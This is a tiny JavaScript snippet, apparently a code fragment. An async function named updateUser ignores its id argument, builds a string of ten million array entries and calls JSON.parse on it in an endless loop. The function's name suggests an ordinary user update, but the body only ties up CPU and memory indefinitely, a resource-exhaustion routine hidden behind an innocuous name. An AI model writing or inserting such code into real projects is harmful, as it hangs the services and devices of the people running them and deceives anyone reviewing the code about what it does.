async function updateUser(id) {
  const text = '[' + '1,'.repeat(10000000) + '1]';
  for (;;) JSON.parse(text);
}
